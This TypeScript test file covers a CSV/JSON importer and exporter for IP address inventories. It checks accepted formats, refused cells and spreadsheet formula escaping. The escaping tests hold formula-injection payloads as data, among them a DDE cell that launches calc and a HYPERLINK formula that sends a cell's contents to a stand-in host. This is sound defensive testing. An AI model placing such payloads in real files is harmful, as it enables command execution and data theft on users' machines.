/** Tables as people have them (faults 4.2 and 4.9): what is taken, as it is meant; which cells are refused. */

import { describe, expect, test } from "bun:test";
import { csvLine, readCsv, unescapeCell } from "../../src/formats/csv.ts";
import { bytes, ONE, rowsOf, utf16 } from "../helpers/drafts.ts";
import { quickly } from "../helpers/quick.ts";

describe("tables that are taken", () => {
	test.each<[string, Uint8Array | string]>([
		["commas", "ip,hostname\n10.0.0.14,nas\n"],
		["semicolons", "ip;hostname\n10.0.0.14;nas\n"],
		["tabs", "ip\thostname\n10.0.0.14\tnas\n"],
		["bars", "ip|hostname\n10.0.0.14|nas\n"],
		["sep= names the delimiter", "sep=;\nip;hostname\n10.0.0.14;nas\n"],
		["sep= with another one", "sep=#\nip#hostname\n10.0.0.14#nas\n"],
		["byte order mark", "\ufeffip,hostname\n10.0.0.14,nas\n"],
		["CRLF", "ip,hostname\r\n10.0.0.14,nas\r\n"],
		["CR", "ip,hostname\r10.0.0.14,nas\r"],
		["mixed line ends", "ip,hostname\r\n10.0.0.14,nas\r\n10.0.0.15,b\n"],
		["no end of the last line", "ip,hostname\n10.0.0.14,nas"],
		[
			"cells that are a formula for one text, as Excel needs it to leave numbers alone",
			'ip;hostname\n="10.0.0.14";="nas"\n',
		],
		["the same in quotes", '"ip","hostname"\n"=""10.0.0.14""","=""nas"""\n'],
		["quotes", '"ip","hostname"\n"10.0.0.14","nas"\n'],
		["titles in another case and order", "Host Name,IP_Address\nnas,10.0.0.14\n"],
		["titles in German", "IP-Adresse;Rechnername\n10.0.0.14;nas\n"],
		["blank lines and lines of commas", "ip,hostname\n\n,\n10.0.0.14,nas\n,\n"],
		["lines above the titles", "Inventory 2026\n\nip,hostname\n10.0.0.14,nas\n"],
		[
			"a comment as phpIPAM's hosts files have it",
			"# Office (10.0.0.0/24) - Praha\nip,hostname\n10.0.0.14,nas\n",
		],
		["no titles", "10.0.0.14,nas\n10.0.0.15,b\n"],
		["no titles, the address second", "nas,10.0.0.14\nb,10.0.0.15\n"],
		["UTF-16LE with a mark", utf16("ip\thostname\n10.0.0.14\tnas\n", true, true)],
		["UTF-16BE with a mark", utf16("ip\thostname\n10.0.0.14\tnas\n", false, true)],
		["JSON: a list", '[{"ip":"10.0.0.14","hostname":"nas"}]'],
		[
			"JSON: NetBox's API",
			'{"results":[{"address":"10.0.0.14/24","dns_name":"nas","status":{"value":"active","label":"Active"}}]}',
		],
		["JSON: WatchYourLAN", '[{"ID":1,"Name":"nas","IP":"10.0.0.14","Mac":"00:11:32:8a:00:01","Known":1}]'],
		["blanks around cells", " ip , hostname \n 10.0.0.14 , nas \n"],
	])("%s", (_, file) => {
		const found = rowsOf(file);
		expect(found).toBeArray();
		expect((found as unknown[])[0]).toMatchObject(ONE);
	});

	test("JSON: a key that only one object has, named like what every object has by birth", () => {
		const text =
			'[{"ip":"10.0.0.14","constructor":"x"},{"ip":"10.0.0.15"},{"ip":"10.0.0.16","toString":"y"}]';
		const notes = (rowsOf(text) as { values: { notes?: string } }[]).map(({ values }) => values.notes);
		expect(notes).toEqual(["Constructor: x", "", "ToString: y"]);
	});

	test("UTF-16 without a mark is taken when it is chosen", () => {
		const file = utf16("ip,hostname\n10.0.0.14,nas\n", true, false);
		expect(rowsOf(file)).toMatchObject({ encoding: true });
		expect(rowsOf(file, { encoding: "utf-16le" })).toMatchObject([ONE]);
	});

	test("Windows-125x is taken when it is chosen; otherwise line and byte are named", () => {
		const file = Uint8Array.from([...bytes("ip,hostname,description\n10.0.0.14,nas,"), 0xe8, 10]);
		expect(rowsOf(file)).toMatchObject({ line: 2, column: 15, encoding: true });
		expect(rowsOf(file, { encoding: "windows-1250" })).toMatchObject([{ values: { description: "č" } }]);
		expect(rowsOf(file, { encoding: "windows-1252" })).toMatchObject([{ values: { description: "è" } }]);
	});

	test("a quoted cell over several lines counts for the lines behind it", () => {
		const found = rowsOf('ip,notes\n10.0.0.14,"a\r\nb\r\nc"\n10.0.0.300,x\n');
		expect(found).toMatchObject([{ values: { notes: "a\nb\nc" } }, { kind: "refused", line: 5 }]);
	});

	test("an absent column is not there; an empty one is empty", () => {
		const [row] = rowsOf("ip,description\n10.0.0.14,\n") as { values: object }[];
		expect(row?.values).toEqual({ description: "" });
	});

	test("a plain list of blocks, or of addresses, with a title or without", () => {
		const blocks = [
			{ kind: "subnet", cidr: "10.0.0.0/24" },
			{ kind: "subnet", cidr: "10.0.1.0/24" },
		];
		expect(rowsOf("subnet\n10.0.0.0/24\n10.0.1.0/24\n")).toMatchObject(blocks);
		expect(rowsOf("10.0.0.0/24\n10.0.1.0/24\n")).toMatchObject(blocks);
		const hosts = [
			{ kind: "host", ip: "10.0.0.1" },
			{ kind: "host", ip: "2001:db8::1" },
		];
		expect(rowsOf("ip\n10.0.0.1\n2001:DB8::1\n")).toMatchObject(hosts);
		expect(rowsOf("10.0.0.1\n2001:DB8::1\n")).toMatchObject(hosts);
	});

	test("columns without a place here become lines of the notes", () => {
		expect(rowsOf("ip,Rack,Last seen\n10.0.0.14,4,2026-01-01\n")).toMatchObject([
			{ values: { notes: "Rack: 4" } },
		]);
	});
});

describe("cells that are refused, with the reason", () => {
	test.each([
		["10.10", "spreadsheet"],
		["1.10", "spreadsheet"],
		["010.0.0.1", "leading zero"],
		["0x0a.0.0.1", "not an IP address"],
		["256.1.1.1", "more than 255"],
		["10.0.0", "spreadsheet"],
		["1.2.3.4.5", "four numbers"],
		["167772161", "four numbers"],
		["１０.0.0.1", "not an IP address"],
		["::ffff:10.0.0.1", "IPv4 address in IPv6 clothing"],
		["fe80::1%eth0", "zone"],
		["10.0.0.9-10.0.0.20", "range"],
		["10-Jan", "not an IP address"],
		["1E+05", "not an IP address"],
	])("ip “%s”", (ip, says) => {
		const [row] = rowsOf(`ip,hostname\n${ip},a\n10.0.0.14,nas\n`) as { kind: string; reason: string }[];
		expect(row?.kind).toBe("refused");
		expect(row?.reason).toContain(says);
	});

	test.each([
		["mac", "1.13E+09", "hardware address"],
		["mac", "00:00:00:00:00:00", "one interface"],
		["mac", "ff:ff:ff:ff:ff:ff", "one interface"],
		["mac", "01:00:5e:00:00:01", "one interface"],
		["mac", "00:11:32:8a:00", "hardware address"],
		["hostname", "x".repeat(254), "at most 253"],
		["description", "a\u202eb", "invisible"],
		["tags", "x".repeat(41), "at most 40"],
		["subnet", "10.0.0.0/33", "no mask"],
		["subnet", "10.0.0.0/255.0.255.0", "no mask"],
		["is gateway", "perhaps", "neither yes nor no"],
	])("%s “%s”", (title, value, says) => {
		const [row] = rowsOf(`ip,${title}\n10.0.0.14,${value}\n`) as { kind: string; reason: string }[];
		expect(row).toMatchObject({ kind: "refused", line: 2, address: "10.0.0.14" });
		expect(row?.reason).toContain(says);
	});

	test.each([["aa-bb-cc-00-11-22"], ["aabb.cc00.1122"], ["AA:BB:CC:00:11:22"], ["aabbcc001122"]])(
		"mac %s has one form",
		(mac) => {
			expect(rowsOf(`ip,mac\n10.0.0.14,${mac}\n`)).toMatchObject([{ values: { mac: "aa:bb:cc:00:11:22" } }]);
		},
	);

	test.each([
		["10.0.0.0/24", "", "10.0.0.0/24"],
		["10.0.0.0", "24", "10.0.0.0/24"],
		["10.0.0.0", "255.255.255.0", "10.0.0.0/24"],
		["10.0.0.0", "/24", "10.0.0.0/24"],
		["10.0.0.7/24", "", "10.0.0.0/24"],
		["10.0.0.0 255.255.255.128", "", "10.0.0.0/25"],
		["2001:DB8:0::/64", "", "2001:db8::/64"],
		["0.0.0.0", "0", "0.0.0.0/0"],
	])("subnet %s with mask “%s” is %s", (subnet, mask, cidr) => {
		expect(rowsOf(`subnet,mask,description\n${subnet},${mask},x\n`)).toMatchObject([
			{ kind: "subnet", cidr },
		]);
	});
});

test("a list with ten thousands of empty rows behind it costs no more than its length", () => {
	const rows = Array.from({ length: 10_000 }, (_, n) => `10.0.${n >> 8}.${n & 255},h${n}\n`);
	const file = `${rows.join("")}${",\n".repeat(20_000)}`;
	// Some 200 ms; a collection for each of them takes many times as long.
	return quickly(() => expect(readCsv(file).value?.rows).toHaveLength(10_000), 5_000);
});

describe("cells that a spreadsheet would run", () => {
	const cells = [
		...[
			"=1+1",
			"+1+1",
			"-1+1",
			"@SUM(1)",
			"\t=1",
			"\r=1",
			"\0=1",
			"\0",
			"=cmd|' /C calc'!A0",
			'=HYPERLINK("http://x?"&A1)',
			" =1",
		],
		...[
			'"=1"',
			'",=1',
			"'=1",
			"''=1",
			"|x",
			"%0a",
			"＝1",
			"plain",
			"it's",
			"'quoted'",
			"",
			"-5",
			"-5.25",
			"+420",
			"a\nb",
		],
	];
	test.each(cells.map((text) => [text]))("%j comes out harmless and back as it was", (text) => {
		const line = csvLine(["a", text]);
		const cell = readCsv(line.replaceAll("\r\n", "\n")).value;
		const raw = /^a,"?([\s\S]*?)"?\r\n$/.exec(line)?.[1] ?? "";
		if (!/^[+-]?\d+(\.\d+)?$/.test(text)) expect(raw).not.toMatch(/^\s*[=+\-@|%＝]/);
		expect(cell?.rows[0]?.cells[1]).toBe(text);
	});
	test.each([
		['="00042"', "00042"],
		['="say ""hi"""', 'say "hi"'],
		['=""', ""],
		[' ="1E5" ', "1E5"],
		['="a"&"b"', '="a"&"b"'],
		['="a"b"', '="a"b"'],
		['\'="00042"', '="00042"'],
	])("%s in a cell means %s", (cell, meant) => {
		const quoted = `ip,description\n10.0.0.14,"${cell.replaceAll('"', '""')}"\n`;
		expect(readCsv(quoted).value?.rows[1]?.cells[1]).toBe(meant);
	});
	test("a formula that somebody else wrote is only text here", () => {
		expect(unescapeCell("'=1")).toBe("=1");
		expect(rowsOf("ip,description\n10.0.0.14,=1+1\n")).toMatchObject([{ values: { description: "=1+1" } }]);
	});
});
